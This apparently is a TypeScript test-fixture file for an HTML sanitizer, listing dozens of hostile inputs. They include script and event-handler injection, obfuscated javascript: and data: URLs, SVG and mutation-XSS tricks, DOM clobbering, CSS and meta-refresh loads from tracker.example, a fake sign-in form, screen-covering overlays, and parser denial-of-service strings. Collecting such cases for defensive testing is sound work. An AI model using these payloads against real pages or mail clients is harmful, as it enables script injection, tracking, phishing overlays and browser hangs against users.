/**
 * HTML of those who mean harm, of our own writing: case B27. What runs sets `pwned`; what is loaded is of
 * tracker.example.
 */
const T = 'http://tracker.example'
const RUN = 'window.pwned=1;parent.pwned=1'

export const HOSTILE: Record<string, string> = {
    script: `<script>${RUN}</script>`,
    'script in a comment that is none': `<!--><script>${RUN}</script>-->`,
    'script in svg': `<svg><script>${RUN}</script></svg>`,
    handler: `<img src=x onerror="${RUN}">`,
    'handlers of the body': `<body onload="${RUN}" background="${T}/body"><p onmouseover="${RUN}">x</p>`,
    'svg use': `<svg><use href="DaTa:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pjwvc3ZnPg==#x"></use></svg>`,
    'svg image': `<svg><image xlink:href="${T}/svg.png" href="${T}/svg2.png"/></svg>`,
    'svg animate': `<svg><a><animate attributeName=href values="java&#9;script:${RUN}"/><text>x</text></a></svg>`,
    'svg set': `<svg><set attributeName="onload" to="${RUN}"/></svg>`,
    'data with tabs, nul and entities': `<a href="da&#9;ta:text/html,<script>${RUN}</script>">x</a><a `
        + `href="java\u0000script:${RUN}">y</a>`
        + `<a href="jav&#x0A;ascript:${RUN}">z</a>`,
    area: `<img src="${T}/map.png" usemap="#m"><map name="m"><area shape="default" href="javascript:${RUN}"></map>`,
    'css escapes': `<p style="background:\\75rl(${T}/escape)">x</p>`
        + `<p style="background-image:u\\72l('${T}/escape2')">x</p>`,
    'css variables': `<style>p{--x:url(${T}/var)}</style>`
        + `<p style="--y:url(${T}/var2);background:var(--x),var(--y)">x</p>`,
    'css import': `<style>@import url(${T}/import.css);@import "${T}/import2.css";@im\\70ort `
        + `url(${T}/import3.css);</style>x`,
    'css font': `<style>@font-face{font-family:f;src:url(${T}/font)}body{font-family:f}</style>x`,
    'css images': `<style>body{background:url(${T}/a);list-style:url("${T}/b");border-image:url('${T}/c');cursor:url(${T}/d),auto}`
        + `p::before{content:url(${T}/e)}p{background:image-set("${T}/f" `
        + `1x);filter:url(${T}/g#x);mask:url(${T}/h)}</style><p>x</p>`,
    'css image in an attribute': `<p style='background:image-set("${T}/set" 1x);list-style-image:url(${T}/li)'>x</p>`,
    base: `<base href="${T}/"><img src="relative.png"><a href="relative">x</a>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${T}/refresh">`,
    'refresh by script': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    form: `<form action="${T}/form" id=f><input name=password autofocus onfocus="${RUN}"><button>Sign in</button>`
        + `</form>`,
    prefetch: `<link rel="dns-prefetch" href="//tracker.example"><link rel=preconnect href="${T}"><link `
        + `rel=prefetch href="${T}/pre">`
        + `<link rel=stylesheet href="${T}/style.css"><link rel=icon href="${T}/icon">`,
    srcset: `<img srcset="${T}/1x.png 1x, ${T}/2x.png 2x"><picture><source srcset="${T}/source"><img `
        + `src="${T}/img"></picture>`,
    poster: `<video poster="${T}/poster" src="${T}/video" autoplay></video><audio src="${T}/audio" autoplay></audio>`,
    picture: `<img src="${T}/open.gif?who=anna" width=1 height=1><input type=image src="${T}/input">`,
    background: `<table background="${T}/table"><tr><td background="${T}/cell">x</td></tr></table>`,
    frames: `<iframe src="${T}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object `
        + `data="${T}/object"></object>`
        + `<embed src="${T}/embed"><frameset><frame src="${T}/frame2"></frameset>`,
    cover: '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red;width:99999px;height:99999px">x</div>'
        + '<style>html,body{position:fixed;top:-5000px;left:-5000px;width:100000px;height:100000px;z-index:2147483647;background:red}</style>',
    'cover in a dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Sign in</dialog>'
        + '<div popover=manual>x</div>',
    growth: '<div style="height:calc(100vh + 50px)">x</div>',
    'end of the document': `</body></html><script>${RUN}</script><img src="${T}/after">`,
    'end of the style': `<style></style></head><script>${RUN}</script>`,
    mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    clobbering: `<img name=body><img id=documentElement><form id=querySelectorAll></form><img name=contentDocument>x`,
    'named elements': `<a id=pwned href="${T}/named">x</a>`,
    ping: `<a href="https://example.com/" ping="${T}/ping">x</a>`,
    'worklets and templates': `<template><script>${RUN}</script></template><template shadowrootmode=open><img `
        + `src=${T}/shadow></template>`,
    isindex: `<isindex action="javascript:${RUN}" type=image><keygen autofocus onfocus="${RUN}">`,
    'xml stylesheet': `<?xml-stylesheet href="${T}/xml.css"?><![CDATA[<script>${RUN}</script>]]>x`,
    deep: `${'<div>'.repeat(3_000)}<img src="${T}/deep" onerror="${RUN}">`,
    'attributes that load': `<html manifest="${T}/manifest"><head profile="${T}/profile"></head><body `
        + `background="${T}/body2">`
        + `<img width=9 height=9 lowsrc="${T}/low" dynsrc="${T}/dyn" longdesc="${T}/longdesc" usemap="${T}/map#m" `
        + `attributionsrc="${T}/at">`
        + `<blockquote cite="${T}/cite">x</blockquote><q cite="javascript:${RUN}">x</q><ins cite="data:text/html,`
        + `<script>${RUN}</script>">x</ins>`
        + `<table background="${T}/t2"><tbody background="${T}/t3"><tr background="${T}/t4"><th `
        + `background="${T}/t5">x</th></tr></tbody></table>`
        + `<a href="javascript:${RUN}" ping="${T}/ping2" attributionsrc="${T}/at2" action="${T}/action" `
        + `formaction="${T}/fa">x</a>`
        + `<p src="${T}/p" data="${T}/data" codebase="${T}/" classid="${T}/c" archive="${T}/ar" poster="${T}/po" `
        + `srcset="${T}/s 1x" icon="${T}/i">x`
        + `<hr src="${T}/hr" href="${T}/hr2" xlink:href="${T}/hr3"><bgsound src="${T}/sound"><layer `
        + `src="${T}/layer"><ilayer src="${T}/ilayer">`,
    'attributes of the layout that are none': `<body text="javascript:${RUN}" bgcolor="url(${T}/bgcolor)" `
        + `dir="&quot;><img src=x onerror=${RUN}>" `
        + `lang="&quot;&gt;&lt;img src=${T}/lang onerror=${RUN}&gt;" class="'><script>${RUN}</script>" `
        + `style="background:url(${T}/style)">`
        + `<table width="javascript:${RUN}" border="${T}/border" height="expression(${RUN})" `
        + `bgcolor="url(${T}/bg2)"><tr><td align="url(${T}/al)" `
        + `valign="data:text/html,<script>${RUN}</script>" width="&quot; onmouseover=&quot;${RUN}">x</td></tr></table>`
        + `<font color="url(${T}/color)" face="url(${T}/face)" size="${T}/size">x</font><ol type="${T}/type" `
        + `start="javascript:${RUN}"><li>x</ol>`
        + `<style media="all" type="text/css">@import url(${T}/import4);p{background:url(${T}/bg3)}</style>`,
    'cover by attributes': '<html dir="rtl"><body dir="rtl" leftmargin="-9999" topmargin="-9999" '
        + 'marginheight="-9999" style="position:fixed;inset:-9999px;'
        + 'width:99999px;height:99999px;margin:-9999px;z-index:2147483647"><table width="99999" height="99999" '
        + 'hspace="-9999" vspace="-9999" '
        + 'bgcolor="red" border="9999" cellpadding="9999"><tr><td width="99999" height="99999" nowrap>x</td></tr>'
        + '</table><img width="99999" height="99999">',
    'names of the page': ['body', 'documentElement', 'head', 'defaultView', 'addEventListener', 'querySelectorAll',
        'createElement', 'attributes']
        .map(name => `<img name="${name}" width=1><a id="${name}" name="${name}">x</a>`).join(''),
}

const LENGTH = 256 << 10
const filled = (piece: string, before = '', behind = '') => before + piece.repeat(Math.floor(LENGTH / piece.length)) + behind

/** Elements of which no two are alike: the browser keeps three of those that are. */
const different = (count: number, behind = '') =>
    Array.from({ length: count }, (_, i) => `<font size=${i}>${behind}`).join('')

/** A browser begins all of them anew at each end: sixteen million elements, of some 130 KB. */
export const ANEW = `${'<div>'.repeat(4_000)}${different(4_000)}${'Hello</div>'.repeat(4_000)}`

/** As much as the browser asks for of one body, and what takes minutes where somebody was careless. */
export const LONG: Record<string, string> = {
    'css without end': filled('x', '<style>', '</style>Hello'),
    'css of colons': filled(':', '<style>', '</style>Hello'),
    'css of comments': filled('/*/', '<style>', '</style>Hello'),
    'css of rules': filled('@import ', '<style>', '}</style>Hello'),
    'a style of colours': filled('color', '<p style="', '">Hello</p>'),
    'a style of brackets': filled('url(', '<p style="', '">Hello</p>'),
    'many styles': filled('<p style="color:red">', '', 'Hello'),
    'a link of points': filled('a.', '<a href="https://a.example/">', '</a>Hello'),
    'a link of letters': filled('a', '<a href="https://a.example/">', '\u0001</a>Hello'),
    'bold that nobody closes': filled('<b><i><u>', '', 'Hello'),
    'links that nobody closes': filled('<a><b><font>', '', 'Hello'),
    'tables in tables': filled('<table><tr><td>', '', 'Hello'),
    'lists in lists': filled('<ul><li><nobr>', '', 'Hello'),
    quotes: filled('<blockquote></blockquote>', '', 'Hello'),
    'quotes of a class': filled('<p class=gmail_quote>', 'x', '<p>Hello'),
    'forms in forms': filled('<button>', '', 'Hello'),
    comments: filled('<!--', '', '-->Hello'),
    'open tags': filled('<', 'Hello'),
    spaces: filled(' ', '<p>Hello', 'x'),
    'what is begun anew': ANEW,
    'what is begun anew, with ends that are none':
        `${'<div>'.repeat(300)}${different(300, '<!--</font>-->')}${'Hello</div>'.repeat(300)}`,
    'what is begun anew once it was cleaned':
        `${different(180, '<p>Hello<button>')}${'</button></font>'.repeat(180)}`.repeat(10),
    'ends of what nobody began': filled('</i>', '<b>'.repeat(9_000), 'Hello'),
    pictures: filled('<img src=http://tracker.example/a>', '', 'Hello'),
}
